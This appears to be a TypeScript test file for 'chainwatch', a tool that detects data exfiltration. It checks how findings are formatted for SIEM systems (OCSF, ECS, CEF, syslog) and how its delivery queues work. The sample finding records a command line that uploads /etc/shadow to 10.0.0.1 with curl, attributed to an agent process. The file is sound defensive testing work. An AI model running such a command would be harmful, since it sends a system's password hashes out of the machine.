import fc from 'fast-check';
import { mkdtempSync } from 'node:fs';
import { createSocket } from 'node:dgram';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../schema/finding.js';
import { DurableQueue } from '../../util/durable-queue.js';
import { commandLine } from '../command-line.js';
import { cef, ecs, ocsf, OCSF_REQUIRED } from './formats.js';
import { SiemRouter } from './router.js';
import { format5424, octetFrame } from './syslog-5424.js';

const base: Finding = {
  id: 'a'.repeat(24), time: '2026-11-22T00:00:00.000Z', ts_ns: 5, rule: 'exfil.read-then-transmit', category: 'exfiltration', severity: 'critical', task: 'sbx', host: 'h',
  process: { pid: 7, ppid: 1, comm: 'curl', exe: '/usr/bin/curl' }, source: { path: '/etc/shadow', data_class: 'secret' }, sink: { family: 'inet', address: '10.0.0.1', port: 443 },
  bytes_read: 10, bytes_sent: 10, latency_ms: 1, sends: 1, chain: [], coverage: { lost_events: 0, window_start_ns: 0, window_end_ns: 5 }, policy_hash: null, summary: 'curl sent secret data',
};

/** A CEF reader: seven header fields split at unescaped pipes, then key=value pairs split at unescaped equals signs. */
function parseCef(line: string): { header: string[]; ext: Record<string, string> } {
  const header: string[] = [];
  let cur = '';
  let i = 0;
  for (; i < line.length && header.length < 7; i++) {
    const c = line[i]!;
    if (c === '\\' && i + 1 < line.length) cur += line[++i];
    else if (c === '|') {
      header.push(cur);
      cur = '';
    } else cur += c;
  }
  const rest = line.slice(i);
  // unescaped '=' positions; the key is the word before each
  const eqs: number[] = [];
  for (let j = 0; j < rest.length; j++) {
    if (rest[j] === '\\') j++;
    else if (rest[j] === '=') eqs.push(j);
  }
  const ext: Record<string, string> = {};
  const keyStart = (eq: number): number => rest.lastIndexOf(' ', eq) + 1;
  eqs.forEach((eq, k) => {
    const key = rest.slice(keyStart(eq), eq);
    const end = k + 1 < eqs.length ? keyStart(eqs[k + 1]!) - 1 : rest.length;
    ext[key] = rest.slice(eq + 1, end).replace(/\\(.)/g, (_, ch: string) => (ch === 'n' ? '\n' : ch));
  });
  return { header, ext };
}

/** A POSIX shell's word splitting for what commandLine writes: bare words, '…' quotes and "…" quotes, separated by spaces. */
function shellSplit(line: string): string[] {
  const words: string[] = [];
  let cur: string | undefined;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (c === ' ') {
      if (cur !== undefined) words.push(cur);
      cur = undefined;
    } else if (c === "'" || c === '"') {
      const end = line.indexOf(c, i + 1);
      cur = (cur ?? '') + line.slice(i + 1, end);
      i = end;
    } else cur = (cur ?? '') + c;
  }
  if (cur !== undefined) words.push(cur);
  return words;
}

/** The finding's process with its command line and two ancestors, the first of them its parent. */
const withLineage: Finding = {
  ...base,
  process: {
    ...base.process,
    args: ['curl', '-T', '/etc/shadow', 'http://10.0.0.1/'],
    ancestors: [
      { pid: 1, comm: 'bash', exe: '/usr/bin/bash', args: ['bash', '-c', "curl -T /etc/shadow 'http://10.0.0.1/'"] },
      { pid: 0, comm: 'agent', args: ['agent', '--task', 'sbx'], args_truncated: true },
    ],
  },
};

describe('SIEM formats', () => {
  it('command lines: quoted as a POSIX shell reads them back, word for word', () => {
    expect(commandLine(['curl', '-d', 'a b', "it's", ''])).toBe(`curl -d 'a b' 'it'"'"'s' ''`);
    expect(commandLine(['sh', '-c'], true)).toBe('sh -c …');
    expect(commandLine(undefined)).toBeUndefined();
    fc.assert(fc.property(fc.array(fc.string({ minLength: 0, maxLength: 12 }), { minLength: 1, maxLength: 6 }), (args) => {
      expect(shellSplit(commandLine(args)!)).toEqual(args);
    }), { numRuns: 500 });
  });

  it('the process with its command line and parent: OCSF cmd_line, parent_process and lineage; ECS args and parent; CEF cs5 and cs6', () => {
    const o = ocsf({ finding: withLineage, deliveryId: 'd' }) as { evidences: { process?: Record<string, unknown> }[] };
    expect(o.evidences[0]!.process).toEqual({
      pid: 7, name: 'curl', cmd_line: 'curl -T /etc/shadow http://10.0.0.1/', file: { path: '/usr/bin/curl', name: 'curl' },
      parent_process: { pid: 1, name: 'bash', cmd_line: `bash -c 'curl -T /etc/shadow '"'"'http://10.0.0.1/'"'"''`, file: { path: '/usr/bin/bash', name: 'bash' } },
      lineage: ['/usr/bin/bash', 'agent'],
    });
    const e = ecs({ finding: withLineage, deliveryId: 'd' }) as { process: Record<string, unknown>; chainwatch: { ancestors: unknown } };
    expect(e.process).toMatchObject({ pid: 7, args: withLineage.process.args, args_count: 4, command_line: 'curl -T /etc/shadow http://10.0.0.1/', parent: { pid: 1, name: 'bash', executable: '/usr/bin/bash', args_count: 3 } });
    expect(e.chainwatch.ancestors).toEqual(withLineage.process.ancestors);
    const { ext } = parseCef(cef({ finding: withLineage, deliveryId: 'd' }));
    expect(ext).toMatchObject({ cs5Label: 'commandLine', cs5: 'curl -T /etc/shadow http://10.0.0.1/', cs6Label: 'parentCommandLine' });
    expect(shellSplit(ext.cs6!)).toEqual(withLineage.process.ancestors![0]!.args);
    // a parent the state did not know (the first ancestor is not the ppid): the pid alone, no command line
    const reparented = { ...withLineage, process: { ...withLineage.process, ppid: 1234 } };
    expect((ocsf({ finding: reparented, deliveryId: 'd' }) as typeof o).evidences[0]!.process!.parent_process).toEqual({ pid: 1234 });
    expect(parseCef(cef({ finding: reparented, deliveryId: 'd' })).ext).not.toHaveProperty('cs6');
    expect(parseCef(cef({ finding: reparented, deliveryId: 'd' })).ext).not.toHaveProperty('cs6Label');
  });

  it('OCSF: the Detection Finding class with its required fields', () => {
    const o = ocsf({ finding: base, deliveryId: 'd1' });
    for (const k of OCSF_REQUIRED) expect(o).toHaveProperty(k);
    expect(o).toMatchObject({ class_uid: 2004, severity_id: 5, metadata: { uid: 'd1', product: { name: 'chainwatch' } } });
  });

  it('CEF: any summary and path survive escaping (header pipes, extension equals signs, backslashes, newlines)', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (summary, path) => {
        const line = cef({ finding: { ...base, summary, source: { path: `/${path}` } }, deliveryId: 'd' });
        const { header, ext } = parseCef(line);
        expect(header.slice(0, 5)).toEqual(['CEF:0', 'chainwatch', 'chainwatch', '0.1.0', 'exfil.read-then-transmit']);
        expect(header[5]).toBe(summary.replace(/[\r\n]+/g, ' '));
        expect(header[6]).toBe('10');
        expect(ext.fname).toBe(`/${path}`.replace(/\r\n/g, '\n'));
        expect(ext.cs1).toBe('sbx');
      }),
      { numRuns: 500 },
    );
  });

  it('ECS: an alert with rule, process, file, destination and labels', () => {
    const e = ecs({ finding: base, deliveryId: 'd2' });
    expect(e).toMatchObject({ event: { kind: 'alert', id: 'd2' }, rule: { id: base.rule }, process: { pid: 7, name: 'curl', executable: '/usr/bin/curl' }, file: { path: '/etc/shadow' }, destination: { ip: '10.0.0.1', port: 443 }, labels: { task: 'sbx' } });
  });

  it('RFC 5424 structured data escapes ", \\ and ], and octet counting counts bytes', () => {
    const m = format5424({ severity: 'high', time: base.time, hostname: 'h', msgid: 'x', sd: { task: 'a"b\\c]d' }, msg: 'é' });
    expect(m).toContain('task="a\\"b\\\\c\\]d"');
    expect(octetFrame(m).toString().startsWith(`${Buffer.byteLength(m)} `)).toBe(true);
  });
});

describe('SIEM queues and UDP', () => {
  it('a full queue refuses, counts and reports the refusal (never silent)', async () => {
    const drops: string[] = [];
    const router = new SiemRouter({ version: 1, outputs: [{ name: 'down', type: 'syslog', transport: 'tcp', address: '127.0.0.1:9', format: 'json', queue: { max: 3 }, checkpoints: false }] }, mkdtempSync(join(tmpdir(), 'cw-q-')), (o, what) => drops.push(`${o}: ${what}`));
    for (let i = 0; i < 5; i++) router.finding({ ...base, id: String(i).padStart(24, '0') });
    expect(router.stats().down).toMatchObject({ queued: 3, dropped: 2 });
    expect(drops).toEqual([`down: finding ${'3'.padStart(24, '0')}`, `down: finding ${'4'.padStart(24, '0')}`]);
    await router.close(10);
  });

  it('a durable queue resumes after a restart with exactly what was not delivered', () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-q-'));
    const q = new DurableQueue(dir, 100);
    for (let i = 0; i < 5; i++) q.push({ id: String(i), body: `m${i}` });
    q.ack(2);
    const again = new DurableQueue(dir, 100);
    expect(again.peek(10).map((m) => m.id)).toEqual(['2', '3', '4']);
  });

  it('UDP for legacy receivers: one datagram per finding', async () => {
    const sock = createSocket('udp4');
    const got: string[] = [];
    sock.on('message', (m) => got.push(m.toString()));
    await new Promise<void>((r) => sock.bind(0, '127.0.0.1', () => r()));
    const port = sock.address().port;
    const router = new SiemRouter({ version: 1, outputs: [{ name: 'legacy', type: 'syslog', transport: 'udp', address: `127.0.0.1:${port}`, format: 'cef', checkpoints: false }] }, mkdtempSync(join(tmpdir(), 'cw-q-')), () => undefined);
    router.finding(base);
    for (let i = 0; i < 50 && got.length === 0; i++) await new Promise((r) => setTimeout(r, 20));
    expect(got).toHaveLength(1);
    expect(got[0]).toMatch(/^<106>1 .* chainwatch .*CEF:0\|chainwatch\|/);
    await router.close(10);
    sock.close();
  });
});
